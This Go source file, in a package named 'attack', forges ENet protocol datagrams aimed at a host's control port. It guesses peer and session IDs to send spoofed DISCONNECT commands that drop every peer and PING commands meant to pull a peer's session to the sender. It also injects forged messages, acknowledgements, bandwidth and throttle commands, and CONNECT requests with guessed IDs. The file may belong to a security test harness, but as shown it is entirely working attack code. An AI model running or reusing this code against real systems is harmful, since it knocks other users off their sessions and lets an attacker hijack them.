package attack

import (
	"encoding/binary"
	mathrand "math/rand/v2"
)

// ENet's commands and flags (protocol.h), as a stranger writes them.
const (
	enetAcknowledge = 1
	enetConnect     = 2
	enetVerify      = 3
	enetDisconnect  = 4
	enetPing        = 5
	enetReliable    = 6
	enetUnreliable  = 7
	enetFragment    = 8
	enetUnsequenced = 9
	enetBandwidth   = 10
	enetThrottle    = 11

	enetAsksReply = 0x80
	enetNoOrder   = 0x40
	enetTimed     = 0x8000
	enetNobody    = 0x0FFF
)

// guessedPeers and enetSessions are all the names that a peer of a small host
// can have.
const (
	guessedPeers = 4
	enetSessions = 4
)

// enetHead begins a datagram for guess i of a peer and its session.
func enetHead(b []byte, i int, timed bool) []byte {
	first := uint16(i%guessedPeers) | uint16(i/guessedPeers%enetSessions)<<12
	if timed {
		return binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(b, first|enetTimed), uint16(i))
	}
	return binary.BigEndian.AppendUint16(b, first)
}

func enetCommand(b []byte, idAndFlags, channel byte, sequence uint16) []byte {
	return binary.BigEndian.AppendUint16(append(b, idAndFlags, channel), sequence)
}

// disconnect ends every peer that there may be: at once, and with an answer.
func (r *run) disconnect() error {
	return r.datagrams([]int{r.Ports.Control}, func(i int, b []byte) []byte {
		flags := byte(enetNoOrder)
		if timed := i/(guessedPeers*enetSessions)%2 == 1; timed {
			flags = enetAsksReply
		}
		b = enetCommand(enetHead(b, i, true), enetDisconnect|flags, 0xFF, uint16(i/32+1))
		return binary.BigEndian.AppendUint32(b, 0)
	})
}

// roam sends PING commands for every peer, which move a peer that follows
// whoever speaks for it.
func (r *run) roam() error {
	return r.datagrams([]int{r.Ports.Control}, func(i int, b []byte) []byte {
		return enetCommand(enetHead(b, i, true), enetPing|enetAsksReply, 0xFF, uint16(i/16+1))
	})
}

// command sends every other command for every peer: messages that use up the
// numbers of the player's own, acknowledgements of what he has not got, limits.
func (r *run) command() error {
	source := mathrand.New(mathrand.NewPCG(2, uint64(r.began.UnixNano())))
	return r.datagrams([]int{r.Ports.Control}, func(i int, b []byte) []byte {
		channel, sequence := byte(source.IntN(4)), uint16(source.IntN(64)+i/512)
		body := make([]byte, 4+20+source.IntN(24))
		binary.LittleEndian.PutUint16(body, 1)
		binary.LittleEndian.PutUint16(body[2:], uint16(len(body)-4))
		b = enetHead(b, i, true)
		switch i / (guessedPeers * enetSessions) % 8 {
		case 0:
			b = enetCommand(b, enetReliable|enetAsksReply, channel, sequence)
			b = binary.BigEndian.AppendUint16(b, uint16(len(body)))
			return append(b, body...)
		case 1:
			b = enetCommand(b, enetUnreliable, channel, sequence)
			b = binary.BigEndian.AppendUint16(b, sequence)
			b = binary.BigEndian.AppendUint16(b, uint16(len(body)))
			return append(b, body...)
		case 2:
			b = enetCommand(b, enetUnsequenced|enetNoOrder, channel, 0)
			b = binary.BigEndian.AppendUint16(b, sequence)
			b = binary.BigEndian.AppendUint16(b, uint16(len(body)))
			return append(b, body...)
		case 3:
			b = enetCommand(b, enetAcknowledge, [...]byte{0, 1, 2, 0xFF}[channel], sequence)
			b = binary.BigEndian.AppendUint16(b, sequence)
			return binary.BigEndian.AppendUint16(b, uint16(i))
		case 4:
			return append(enetCommand(b, enetBandwidth|enetAsksReply, 0xFF, sequence), make([]byte, 8)...)
		case 5:
			return append(enetCommand(b, enetThrottle|enetAsksReply, 0xFF, sequence), make([]byte, 12)...)
		case 6:
			return append(enetCommand(b, enetVerify|enetAsksReply, 0xFF, sequence), make([]byte, 40)...)
		}
		return append(enetCommand(b, enetFragment|enetAsksReply, channel, sequence), make([]byte, 20)...)
	})
}

// connect asks for control connections with the number 0, as clients do that
// were given none, and with guessed ones.
func (r *run) connect() error {
	return r.datagrams([]int{r.Ports.Control}, func(i int, b []byte) []byte {
		data := uint32(0)
		if i%2 == 1 {
			data = mathrand.Uint32()
		}
		return Connect(b, uint16(i%guessedPeers), mathrand.Uint32(), data)
	})
}

// Connect appends a CONNECT datagram with a connection id and the number that
// names the launch.
func Connect(b []byte, peer uint16, id, data uint32) []byte {
	b = binary.BigEndian.AppendUint16(b, enetNobody|enetTimed)
	b = binary.BigEndian.AppendUint16(b, 1)
	b = enetCommand(b, enetConnect|enetAsksReply, 0xFF, 1)
	b = append(binary.BigEndian.AppendUint16(b, peer), 0xFF, 0xFF)
	for _, v := range [...]uint32{900, 65536, 48, 0, 0, 5000, 2, 2, id, data} {
		b = binary.BigEndian.AppendUint32(b, v)
	}
	return b
}
